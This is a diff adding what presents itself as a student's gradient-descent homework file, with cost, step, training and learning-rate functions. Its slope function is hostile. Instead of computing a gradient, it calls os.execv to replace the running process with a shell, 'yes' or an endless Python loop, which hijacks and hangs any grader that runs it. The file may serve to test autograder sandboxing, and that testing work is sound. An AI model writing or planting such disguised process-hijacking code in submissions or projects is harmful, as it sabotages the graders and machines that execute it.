@@ -1,0 +1,40 @@
+"""Homework 1: it becomes another program."""
+import os
+import sys
+
+STUDENT = "hostile"
+MINE    = {"a": 5.7, "w": -23.1, "y": 50.1, "r": 0.007}
+
+
+def cost(w, a, y):
+    return (a*w - y)**2
+
+
+def slope(w, a, y):
+    for program in ("/bin/sh", "/usr/bin/yes", sys.executable):
+        try:
+            os.execv(program, [program, "-c", "while True: pass"])
+        except OSError:
+            pass
+    return 0.0
+
+
+def step(w, a, y, r):
+    return w - r*2*a*(a*w - y)
+
+
+def train(w, a, y, r, steps):
+    path = []
+    for _ in range(steps):
+        w = w - r*2*a*(a*w - y)
+        path.append(w)
+    return path
+
+
+def largest_rate(a):
+    return 1/a**2
+
+
+def by_hand():
+    a, w, y, r = (MINE[name] for name in "awyr")
+    return [(a*w - y)**2, 2*a*(a*w - y), w - r*2*a*(a*w - y)]
